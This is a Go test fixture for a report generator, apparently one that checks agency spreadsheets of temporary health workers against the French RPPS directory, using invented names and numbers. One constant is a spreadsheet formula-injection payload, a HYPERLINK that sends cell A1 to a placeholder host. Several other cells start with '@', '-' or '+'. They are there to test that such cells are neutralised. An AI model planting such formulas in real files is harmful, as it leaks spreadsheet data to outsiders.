package report_test

import (
	"time"

	"github.com/rppsync/rppsync"
)

// All names, numbers and files below are invented.

func date(y int, m time.Month, d int) rppsync.Date {
	v, ok := rppsync.NewDate(y, m, d)
	if !ok {
		panic("bad fixture date")
	}
	return v
}

func str(s string) *string { return &s }

func channel(c rppsync.Channel) *rppsync.Channel { return &c }

// reportNow is the fixed report date of the golden files.
var reportNow = time.Date(2026, time.November, 30, 7, 45, 0, 0, time.UTC)

// hyperlink is a hostile cell value: a formula that must never run.
const hyperlink = `=HYPERLINK("http://exemple.invalid/?x="&A1;"Cliquez ici")`

// sampleResults covers every status, a file error, null fields, issues,
// candidates, skipped and hidden sheets, unmapped and NIR columns, and cells
// that would be formulas.
func sampleResults() []rppsync.FileResult {
	contrats := str("Contrats")
	return []rppsync.FileResult{
		{
			Path: "depot/agence-alpha.xlsx",
			Sheets: []rppsync.SheetInfo{
				{Name: "Contrats", HeaderRow: 3},
				{Name: "Archive 2025", Hidden: true, Skipped: "feuille masquée"},
				{Name: "Notes", Skipped: "aucune ligne d'en-tête reconnue"},
			},
			Unmapped: []string{"Taux horaire", "N° Sécu"},
			Rows: []rppsync.Verdict{
				{
					Sheet: contrats, Row: 4, Status: rppsync.StatusMatched,
					RPPS: str("10101234567"), LastName: str("DURANDAL"), FirstName: str("Léonie"),
					ProfessionCode: str("60"), Channel: channel(rppsync.ChannelOrdre), BirthINSEE: str("2A004"),
					FINESS: str("2A0000013"), ContractStart: date(2026, 12, 1), ContractEnd: date(2026, 12, 21),
				},
				{
					Sheet: contrats, Row: 5, Status: rppsync.StatusIdentityMismatch,
					RPPS: str("10109876543"), LastName: str("MARCHAL-VOISIN"), FirstName: str("Théo"),
					ProfessionCode: str("10"), Channel: channel(rppsync.ChannelOrdre),
					FINESS: str("010000024"), ContractStart: date(2026, 12, 2), ContractEnd: date(2026, 12, 5),
					Issues: []rppsync.Issue{{Field: "rpps", Code: "rpps_other_person",
						Message: "Ce RPPS appartient à une autre personne dans l'annuaire : demandez à l'agence de vérifier le numéro."}},
				},
				{
					Sheet: contrats, Row: 6, Status: rppsync.StatusRPPSUnknown,
					RPPS: str("10105555553"), LastName: str("OKONKWO-LEFÈVRE DE LA TOUR D'AUVERGNE"), FirstName: str("Marie-Éléonore"),
					ProfessionCode: str("21"), Channel: channel(rppsync.ChannelOrdre),
					ContractStart: date(2026, 12, 7),
				},
				{
					Sheet: contrats, Row: 7, Status: rppsync.StatusRPPSInvalid,
					LastName: str("BERTHIER"), FirstName: str("Anaïs"), ProfessionCode: str("60"),
					Channel:       channel(rppsync.ChannelOrdre),
					ContractStart: date(2026, 12, 1), ContractEnd: date(2026, 12, 3),
					Issues: []rppsync.Issue{{Field: "identifier", Code: rppsync.CodeRPPSChecksum,
						Message: "Le numéro RPPS 10101234568 contient presque sûrement une faute de frappe : demandez à l'agence le bon numéro."}},
				},
				{
					Sheet: contrats, Row: 8, Status: rppsync.StatusCandidate,
					LastName: str("NGUYEN"), FirstName: str("Bao"), ProfessionCode: str("60"),
					Channel: channel(rppsync.ChannelOrdre), BirthINSEE: str("99243"),
					Candidates: []rppsync.Candidate{{RPPS: "10102223338", Score: 0.97}, {RPPS: "10104445552", Score: 0.815}},
				},
				{
					Sheet: contrats, Row: 9, Status: rppsync.StatusToRegister,
					LastName: str("PETITJEAN"), FirstName: str("Lucas"), ProfessionCode: str("313"),
					Channel: channel(rppsync.ChannelRPPSPlus), BirthINSEE: str("75115"),
					ContractStart: date(2026, 12, 14), ContractEnd: date(2027, 1, 8),
				},
				{
					Sheet: contrats, Row: 10, Status: rppsync.StatusInvalid,
					Issues: []rppsync.Issue{
						{Field: "last_name", Code: rppsync.CodeNameMissing, Message: "Le nom est vide : complétez la ligne avec le nom de l'intérimaire."},
						{Field: "contract_start", Code: rppsync.CodeDateInvalid, Message: "La date « 31/02/2026 » n'existe pas : corrigez la date de début."},
					},
				},
			},
		},
		{
			Path:       "depot/agence-beta.csv",
			Unmapped:   []string{"Commentaire"},
			NIRColumns: []string{"Clé sécurité"},
			Rows: []rppsync.Verdict{
				{
					Row: 2, Status: rppsync.StatusUnchecked, RPPS: str("10107777774"),
					LastName: str(hyperlink), FirstName: str("+33 6 00 00 00 00"), ProfessionCode: str("60"),
					Channel: channel(rppsync.ChannelOrdre),
				},
				{
					Row: 3, Status: rppsync.StatusToRegister,
					LastName: str("@SOMME"), FirstName: str("-Zoé"), ProfessionCode: str("91"),
					Channel: channel(rppsync.ChannelARS), BirthINSEE: str("99350"),
					Issues: []rppsync.Issue{
						{Field: "", Code: rppsync.CodeDirectoryUnavailable, Message: "Aucun annuaire n'était disponible : relancez la vérification avec l'annuaire national."},
						{Field: "birth_place", Code: rppsync.CodeBirthPlacePostalCode, Message: "« 75015 » est un code postal : indiquez la commune de naissance (code INSEE 75115 pour Paris 15e)."},
					},
				},
				{
					Row: 4, Status: rppsync.StatusToRegister, LastName: str("SANS PROFESSION"), FirstName: str("Jules"),
					Issues: []rppsync.Issue{{Field: "profession", Code: rppsync.CodeProfessionUnknown,
						Message: "La profession « Agent polyvalent » n'est pas reconnue : précisez la profession exacte."}},
				},
			},
		},
		{
			Path:  "depot/agence-gamma.xlsx",
			Error: &rppsync.FileError{Code: "file_unreadable", Message: "Le fichier agence-gamma.xlsx est protégé par un mot de passe : demandez à l'agence une version sans mot de passe."},
		},
	}
}
